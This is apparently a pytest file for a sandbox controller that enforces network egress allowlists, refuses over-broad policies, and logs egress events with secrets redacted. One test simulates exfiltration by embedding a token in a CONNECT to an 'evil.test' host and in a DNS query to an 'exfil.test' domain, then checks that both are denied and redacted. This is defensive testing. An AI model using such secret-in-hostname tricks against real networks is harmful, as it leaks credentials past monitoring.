"""The controller's side of egress: policies refused before a run, events into the ledger
(redacted) and into ``network.jsonl``. No VM here (see tests/vm/test_egress.py)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cleanroom.batch.runner import Controller, RunOptions
from cleanroom.core.baseline_model import Baseline
from cleanroom.core.limits import ResolvedLimits
from cleanroom.drivers.base import EnvRequest, Owner, new_env_id
from cleanroom.drivers.fake import FakeDriver
from cleanroom.drivers.gvisor import GvisorDriver
from cleanroom.drivers.qemu import QemuDriver
from cleanroom.errors import LaunchError, NetworkPolicyError
from cleanroom.evidence.manifest import Manifest
from cleanroom.evidence.secrets import Redactor
from cleanroom.ledger import Ledger
from cleanroom.network.egress import Egress, check_manifests, episode_policy
from cleanroom.network.policy import Policy
from cleanroom.store import LocalStore
from tests.conftest import make_fake_baseline, with_network
from tests.network.test_dns import query
from tests.network.test_proxy import Servers, exchange, servers  # noqa: F401


def manifest(eid: str, allow: list[str] | None = None) -> Manifest:
    data: dict[str, object] = {"episode_id": eid, "seed": 0, "policy": {"id": "p"}}
    if allow is not None:
        data["network"] = {"allow": allow}
    return Manifest.model_validate(data)


@pytest.fixture
def baselines(tmp_path: Path) -> tuple[Baseline, Baseline]:
    plain = make_fake_baseline(tmp_path)
    return plain, with_network(plain, ["api.example.com:443", "*.svc.internal:8080"], tmp_path)


def test_each_episode_gets_its_baseline_policy_or_a_narrower_one(
    baselines: tuple[Baseline, Baseline],
) -> None:
    plain, networked = baselines
    assert not episode_policy(plain, manifest("a"))
    assert episode_policy(networked, manifest("a")).entries() == list(networked.network or ())
    assert episode_policy(networked, manifest("a", ["db.svc.internal:8080"])).entries() == [
        "db.svc.internal:8080"
    ]
    assert not episode_policy(networked, manifest("a", []))


def test_a_run_that_asks_too_much_is_refused_naming_every_episode(
    baselines: tuple[Baseline, Baseline],
) -> None:
    plain, networked = baselines
    qemu = QemuDriver()
    check_manifests([manifest("a"), manifest("b", ["db.svc.internal:8080"])], networked, qemu)
    with pytest.raises(NetworkPolicyError) as info:
        check_manifests(
            [manifest("ok"), manifest("wide", ["*.example.com:443"]), manifest("x", ["a.b:1"])],
            networked,
            qemu,
        )
    assert [p.split(" asks")[0] for p in info.value.problems] == ["episode wide", "episode x"]
    with pytest.raises(NetworkPolicyError, match="baseline allows none"):
        check_manifests([manifest("a", ["api.example.com:443"])], plain, qemu)
    for driver in (FakeDriver(), GvisorDriver()):
        with pytest.raises(NetworkPolicyError, match=f"{driver.name} driver cannot enforce"):
            check_manifests([manifest("a")], networked, driver)
        check_manifests([manifest("a", [])], networked, driver)  # network off: fine anywhere


def test_a_group_episode_cannot_also_have_network(baselines: tuple[Baseline, Baseline]) -> None:
    _, networked = baselines
    group = {"id": "g", "setup": {"command": ["true"]}}
    inherits = Manifest.model_validate({**manifest("g-0").model_dump(), "group": group})
    off = Manifest.model_validate(
        {**manifest("g-1", []).model_dump(), "group": group}
    )  # network off: a clone of the NIC-less snapshot is fine
    check_manifests([off], networked, QemuDriver())
    with pytest.raises(NetworkPolicyError) as info:
        check_manifests([inherits, off], networked, QemuDriver())
    assert (
        len(info.value.problems) == 1 and "g-0: a group's episodes fork" in info.value.problems[0]
    )


async def test_the_controller_refuses_before_anything_exists(
    tmp_path: Path, baselines: tuple[Baseline, Baseline]
) -> None:
    _, networked = baselines
    with Ledger(tmp_path / "ledger.db") as ledger:
        ctl = Controller(FakeDriver(), ledger, LocalStore(tmp_path / "store"), options=RunOptions())
        with pytest.raises(NetworkPolicyError, match="cannot enforce"):
            await ctl.run([manifest("a")], networked, run_id="r")
        assert ledger.list_runs() == [] and ledger.envs() == []


async def test_a_driver_without_egress_refuses_a_networked_request(
    baselines: tuple[Baseline, Baseline],
) -> None:
    plain, _ = baselines
    egress = Egress(Policy.parse(["a.test:1"]), ledger=None, run_id="r", episode_id="e", env_id="x")  # type: ignore[arg-type]
    request = EnvRequest(
        new_env_id(), plain, ResolvedLimits(), Owner("t"), 60, network=await egress.start()
    )
    try:
        for driver in (FakeDriver(), GvisorDriver()):
            with pytest.raises(NetworkPolicyError, match="cannot enforce an egress allowlist"):
                await driver.create(request)
    finally:
        await egress.aclose()


async def test_events_reach_the_ledger_and_the_log_redacted(
    tmp_path: Path,
    servers: Servers,  # noqa: F811
) -> None:
    secret = "s3cretvalue"
    with Ledger(tmp_path / "ledger.db") as ledger:
        ledger.start_run("r", controller_id="c", baseline="b", driver="qemu", parallel=1, meta={})
        egress = Egress(
            Policy.parse([f"allowed.test:{servers.echo}"]),
            ledger=ledger,
            run_id="r",
            episode_id="e",
            env_id="env-x",
            redactor=Redactor({"TOKEN": secret}),
            hosts={"allowed.test": "127.0.0.1"},
        )
        att = await egress.start()
        connect = f"CONNECT allowed.test:{servers.echo} HTTP/1.1\r\n\r\n".encode()
        assert b"200" in await exchange(att, "proxy", connect + b"hi")
        await exchange(att, "proxy", f"CONNECT {secret}.evil.test:443 HTTP/1.1\r\n\r\n".encode())
        dns_query = query(f"{secret}.exfil.test")
        await exchange(att, "dns", len(dns_query).to_bytes(2, "big") + dns_query)
        log = (await egress.finish())["network.jsonl"].decode()
        events = ledger.events("r", "egress")
    assert secret not in log and secret not in json.dumps([e.data for e in events])
    lines = [json.loads(line) for line in log.splitlines()]
    assert [e.data for e in events] == lines
    assert [(x["via"], x["allowed"]) for x in lines] == [
        ("connect", True),
        ("connect", False),
        ("dns", False),
    ]
    assert lines[1]["dest"] == "[REDACTED:TOKEN].evil.test:443"
    assert all(e.env_id == "env-x" and e.episode_id == "e" for e in events)
    assert egress.summary() == {
        "allow": [f"allowed.test:{servers.echo}"],
        "connections": 2,
        "dns_queries": 1,
        "denied": 2,
        "events_dropped": 0,
    }


async def test_a_guest_that_did_not_configure_its_nic_fails_the_launch() -> None:
    egress = Egress(Policy.parse(["a.test:1"]), ledger=None, run_id="r", episode_id="e", env_id="x")  # type: ignore[arg-type]
    egress.check_ready({"network": {"address": "10.0.2.15", "env": {}}})
    with pytest.raises(LaunchError, match="no NIC found"):
        egress.check_ready({"agent_version": "0.3.0"})
    with pytest.raises(LaunchError, match="OSError: boom"):
        egress.check_ready({"network": {"error": "OSError: boom"}})
